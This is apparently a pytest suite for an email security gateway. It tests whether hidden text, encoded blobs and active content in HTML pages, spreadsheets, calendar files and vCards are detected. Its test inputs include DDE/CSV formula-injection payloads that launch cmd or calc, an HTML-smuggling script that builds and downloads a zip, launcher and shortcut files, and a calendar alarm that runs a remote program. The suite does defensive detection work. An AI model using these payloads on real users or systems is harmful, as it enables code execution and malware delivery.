"""Pages, calendars, cards and tables: text that is shown or hidden, what runs, and what is packed. Ids are those of the catalogue."""

from __future__ import annotations

import base64
import time

import pytest

from gateway.documents import formulas, html
from gateway.levels import Level
from gateway.verdict import Inspection, LeafState, Zone
from tests.content_mail import attached, inspect, leaf, text, zipped

NOTE = b"SECRET\r\n\r\nA note about nothing, and at some length.\r\n"
B64 = base64.b64encode(NOTE).decode()


def shown(page: str) -> str:
    return "\n".join(segment.text for segment in html.read(page).segments)


def secret(found: Inspection) -> bool:
    return any(one.level is Level.SECRET for one in found.findings)


def actives(found: Inspection) -> set[str]:
    return {one.name for one in found.observations if one.kind == "active"}


# --- HTML ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "page",
    [
        "<p>SECRET",
        "<p>S<b>EC</b><i></i>RET",
        "<p>SE<!-- x -->CRET",
        "<p style='display:none'>SECRET</p>",
        "<p style='color:#fff'>SECRET</p>",
        "<p style='position:absolute;left:-9999px'>SECRET</p>",
        "<p style='font-size:0'>SECRET</p>",
        "<font color=white>SECRET</font>",
        "<p hidden>SECRET</p>",
        "<!-- SECRET -->",
        "<!--[if mso]><p>SECRET</p><![endif]-->",
        "<![if !mso]><p>SECRET</p><![endif]>",
        "<!-->SECRET-->",
        "<!SECRET>",
        "<!DOCTYPE SECRET>",
        "<?SECRET?>",
        "<title>SECRET</title>",
        "<img alt='SECRET'>",
        "<p title='SECRET'>",
        "<meta name=description content='SECRET'>",
        "<input value='SECRET'>",
        "<noscript>SECRET</noscript>",
        "<template><p>SECRET</p></template>",
        "<noframes>SECRET</noframes>",
        "<iframe srcdoc='&lt;p&gt;SECRET&lt;/p&gt;'></iframe>",
        "<iframe>SECRET</iframe>",
        "<textarea>SECRET</textarea>",
        "<select><option>SECRET</select>",
        "<xmp>SECRET</xmp>",
        "<svg><text>SECRET</text></svg>",
        "<math><mtext>SECRET</mtext></math>",
        "<script>var a = 'SECRET'</script>",
        "<style>p::before { content: 'SECRET' }</style>",
        r"<style>p::before { content: '\53 \45 CRET' }</style>",
        "<style>/* SECRET */</style>",
        "<p>&#83;&#x45;CRET",
        "<p>SE\x00CRET",
        "<table><tr><td>SECRET",
        "<object data='x'>SECRET</object>",
        "<![CDATA[SECRET]]>",
        "<plaintext>SECRET",
    ],
)
def test_whatever_a_page_shows_or_hides_is_read(page: str) -> None:
    assert "SECRET" in shown(f"<html><body>{page}")


def test_what_is_seen_is_read_without_what_hides_in_it() -> None:
    for hidden in ("<span style='color:white'>x</span>", "<span style='font-size:0px'>x</span>", "<b style='display:none'>x</b>"):
        assert "SECRET" in shown(f"<p>SEC{hidden}RET</p>")


def test_text_for_a_legacy_font_names_its_font() -> None:
    page = html.read("<p><font face='Kruti Dev 010'>xksiuh;</font> and <span style='font-family: DevLys 010'>x</span></p>")
    assert [(one.text, one.font) for one in page.segments if one.font] == [("xksiuh;", "Kruti Dev 010"), ("x", "DevLys 010")]


@pytest.mark.parametrize(
    "page",
    [
        f'<a href="data:text/plain;base64,{B64}">x</a>',
        f'<img src="d&#97;ta:text/plain;base64,{B64}">',
        f"<style>p {{ background: url(data:text/plain;base64,{B64}) }}</style>",
        f"<script>var blob = '{B64}'</script>",
        f'<embed src=" data:text/plain;base64,{B64}">',
    ],
)
@pytest.mark.parametrize("as_attachment", [True, False])
def test_M26_content_in_a_page_is_found(page: str, as_attachment: bool) -> None:
    if as_attachment:
        assert secret(attached(page.encode(), "a.html", "text/html"))
    else:
        head = b"From: a@example.gov.in\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
        assert secret(inspect(head + page.encode() + b"\r\n"))


@pytest.mark.parametrize("name", ["note.txt", "data.json", "a.py.txt", "notes.md", "a.xml"])
def test_M26_blobs_in_attached_text_are_found(name: str) -> None:
    assert secret(attached(b"see below\n" + base64.encodebytes(NOTE) + b"\nend\n", name, "text/plain"))
    assert secret(attached(zipped((name, b"see below\n" + base64.encodebytes(NOTE)))))


SMUGGLING = f"""<html><body><script>
var bytes = Uint8Array.from(atob('{base64.b64encode(zipped(("note.txt", NOTE))).decode()}'), c => c.charCodeAt(0));
var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([bytes])); a.download = 'a.zip'; a.click();
</script></body></html>"""


def test_M28_a_page_that_builds_a_file_is_told_and_the_file_is_opened() -> None:
    found = attached(SMUGGLING.encode(), "a.html", "text/html")
    assert {"script", "smuggling"} <= actives(found)
    assert leaf(found).state is LeafState.SUSPECT
    assert secret(found)


def test_M28_a_page_whose_file_is_cut_into_pieces_is_told() -> None:
    page = SMUGGLING.replace("atob('", "atob('UEsD'+'").replace("Blob", "Bl" + "ob")
    assert "smuggling" in actives(attached(page.encode(), "a.htm", "text/html"))


@pytest.mark.parametrize(
    ("page", "sign"),
    [
        ("<form action='https://example.org/x'><input name=password></form>", "form"),
        ("<button formaction='//example.org/x'>", "form"),
        ("<meta http-equiv=refresh content='0; url=https://example.org/'>", "external"),
        ("<iframe src='https://example.org/'></iframe>", "external"),
        ("<a href='search-ms:query=x'>x</a>", "launch"),
        ("<body onload=run()>", "script"),
        ("<a href='javascript:x()'>x</a>", "script"),
    ],
)
def test_D10_what_a_page_does_is_told(page: str, sign: str) -> None:
    assert sign in actives(attached(page.encode(), "a.html", "text/html"))


def test_the_target_of_a_refresh_is_a_link() -> None:
    assert "https://example.org/x" in html.read("<meta http-equiv=refresh content='0; url=https://example.org/x'>").links


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<html><script>x()</script></html>", "a.html"),
        (b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>x()</script></html>", "a.xhtml"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>", "a.svg"),
        (b"<html><script>x()</script></html>".decode().encode("utf-16"), "a.html"),
        (b"<html><hta:application id=x><script>x()</script></html>", "a.hta"),
        (b"<hta:application id=x>", "a.bin"),
        (b"From: a@b.in\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>x()</script>\r\n", "a.mht"),
        (b"[InternetShortcut]\r\nURL=https://example.org/\r\n", "a.bin"),
        (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.5\\x\r\n", "a.txt"),
        (b"<?xml version='1.0'?><libraryDescription xmlns='x'></libraryDescription>", "a.xml"),
        (b"<?xml version='1.0'?><persistedQuery version='1.0'></persistedQuery>", "a.xml"),
        (b"<PCSettings><SearchableContent/></PCSettings>", "a.xml"),
        (b"<job id='x'><script>x()</script></job>", "a.txt"),
        (b"REGEDIT4\r\n\r\n[x]\r\n", "a.txt"),
        (b"Windows Registry Editor Version 5.00\r\n".decode().encode("utf-16"), "a.txt"),
        (b'ID;PWXL;N;E\r\nC;X1;Y1;K"x"\r\n', "a.csv"),
        (b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80), "a.pdf"),
        (b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(99), "a.txt"),
        (b"words\n", "a.url"),
        (b"words\n", "a.library-ms"),
    ],
)
def test_D10_what_runs_or_opens_something_is_suspect_by_its_content(data: bytes, name: str) -> None:
    found = attached(data, name, "text/plain")
    assert any(one.state is LeafState.SUSPECT for one in found.leaves if one.path.startswith("2"))


@pytest.mark.parametrize(
    "page", ["<div>" * 50_000, "<p" * 200_000, "<!--" * 200_000, "<form" * 150_000, "&" * 500_000, "<a href='" * 100_000]
)
def test_D10_whatever_a_page_repeats_stays_cheap(page: str) -> None:
    start = time.process_time()
    attached(f"<html>{page}SECRET".encode(), "a.html", "text/html")
    assert time.process_time() - start < 5


# --- tables -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("table", "sign"),
    [
        ("name,value\nx,=cmd|'/C calc'!A0\n", "dde"),
        ("=cmd|'/C calc'!A0", "dde"),
        ("a;+cmd|'/C calc'!A0;b", "dde"),
        ("\"=MSEXCEL|'\\..\\..\\cmd.exe /c x'!_\",b", "dde"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "dde"),
        ('=DDE("cmd";"/C calc";"x")', "dde"),
        ('a,=HYPERLINK("https://example.org/?x="&A1,"y")', "external"),
        ('=WEBSERVICE("https://example.org/")', "external"),
        ('\t=IMPORTXML("https://example.org/","//a")', "external"),
        ('=EXEC("calc.exe")', "macro"),
        ('ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc")\n', "macro"),
        ("ID;P\nC;X1;Y1;Ecmd|'/C calc'!A0\n", "dde"),
    ],
)
def test_D11_formulas_that_run_are_told(table: str, sign: str) -> None:
    assert sign in formulas.active(table)
    assert sign in actives(attached(table.encode(), "a.csv", "text/csv"))


@pytest.mark.parametrize(
    "table",
    [
        "a,b,c\n1,2,3\n",
        "name|value\nx|y!\n",
        "=SUM(A1:A3)",
        "- point one | two!\n",
        "phone,+91 11 2338 0000",
        "call(me)",
        "if a == b | c: run(x)\n",
        "a = b\n",
    ],
)
def test_D11_ordinary_tables_and_texts_are_nothing_active(table: str) -> None:
    assert formulas.active(table) == ()


# --- calendars and cards ------------------------------------------------------------------------------------------------

EVENT = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n{}END:VEVENT\r\nEND:VCALENDAR\r\n"
CARD = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\n{}END:VCARD\r\n"


def folded(line: str) -> str:
    return "\r\n ".join(line[at : at + 70] for at in range(0, len(line), 70)) + "\r\n"


@pytest.mark.parametrize(
    "line",
    [
        folded(f"ATTACH;FMTTYPE=text/plain;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.txt:{B64}"),
        folded(f'ATTACH;FMTTYPE="text/plain";ENCODING=BASE64;VALUE=BINARY:{B64}'),
        folded(f"ATTACH:data:text/plain;base64,{B64}"),
        folded("DESCRIPTION:first\\nSECRET\\nA note about nothing"),
        folded('DESCRIPTION;ALTREP="data:text/html,%3Cp%3ESECRET%3C/p%3E":x'),
        folded("X-ALT-DESC;FMTTYPE=text/html:<p>S<b>EC</b>RET</p>"),
        folded("COMMENT:SE" + "C" + "RET"),
    ],
)
def test_M30_what_is_written_into_a_calendar_is_read(line: str) -> None:
    assert secret(attached(EVENT.format(line).encode(), "a.ics", "text/calendar"))
    assert secret(attached(EVENT.format(line).encode(), "a.bin"))


@pytest.mark.parametrize(
    "line",
    [
        folded(f"PHOTO;ENCODING=b;TYPE=JPEG:{B64}"),
        f"KEY;BASE64:\r\n {B64}\r\n\r\n",
        folded(f"item1.SOUND;ENCODING=B:{B64}"),
        folded(f"PHOTO:data:text/plain;base64,{B64}"),
        "NOTE;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=53=45=\r\n=43=52=45=54\r\n",
        "NOTE;QUOTED-PRINTABLE:=53=45=43=52=45=54\r\n",
        folded("NOTE:SECRET"),
    ],
)
def test_M30_what_is_written_into_a_card_is_read(line: str) -> None:
    assert secret(attached(CARD.format(line).encode(), "a.vcf", "text/vcard"))


@pytest.mark.parametrize(
    "line", ["SUMMARY:[CONFIDENTIAL] Review of the scheme", "SUMMARY;LANGUAGE=en:Review\\, second round [CON\r\n FIDENTIAL]"]
)
def test_M30_the_title_of_an_entry_is_a_subject(line: str) -> None:
    found = attached(EVENT.format(line + "\r\n").encode(), "a.ics", "text/calendar")
    assert any(one.zone is Zone.SUBJECT and one.level is Level.CONFIDENTIAL for one in found.findings), found.findings
    assert not attached(EVENT.format("SUMMARY:Confidential matters are on the agenda\r\n").encode(), "a.ics", "text/calendar").findings


def test_M30_addresses_in_calendars_are_links_and_programs_are_told() -> None:
    alarm = "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:ftp://example.org/x.exe\r\nEND:VALARM\r\n"
    found = attached(EVENT.format(alarm + 'DESCRIPTION;ALTREP="https://drive.google.com/x":x\r\n').encode(), "a.ics", "text/calendar")
    assert "program" in actives(found)
    assert any(one.kind == "link" for one in found.observations)


def test_M30_a_file_in_broken_base64_is_suspect() -> None:
    found = attached(EVENT.format("ATTACH;ENCODING=BASE64;VALUE=BINARY:U0VDUk*VUDQo\r\n").encode(), "a.ics", "text/calendar")
    assert leaf(found).state is LeafState.SUSPECT


def test_M30_an_opaque_signed_message_is_opened() -> None:
    from tests.content_mail import CORPUS

    found = inspect((CORPUS / "smime-opaque-marked.eml").read_bytes())
    assert found.findings
    assert all(one.state is LeafState.INSPECTED for one in found.leaves)


@pytest.mark.parametrize("line", ["A;" * 200_000, "A" * 500_000 + ":x", 'A;B="' * 100_000, "X:1\r\n" * 60_000, " \r\n" * 100_000])
def test_M30_whatever_a_calendar_repeats_stays_cheap(line: str) -> None:
    start = time.process_time()
    attached(EVENT.format(line + "\r\n").encode(), "a.ics", "text/calendar")
    assert time.process_time() - start < 5


def test_mail_within_zip_within_mail_is_read() -> None:
    inner = b"From: a@b.in\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    found = attached(zipped(("m.eml", inner + base64.encodebytes(NOTE).replace(b"\n", b"\r\n"))))
    assert secret(found)
    assert "A note about nothing" in text(found)
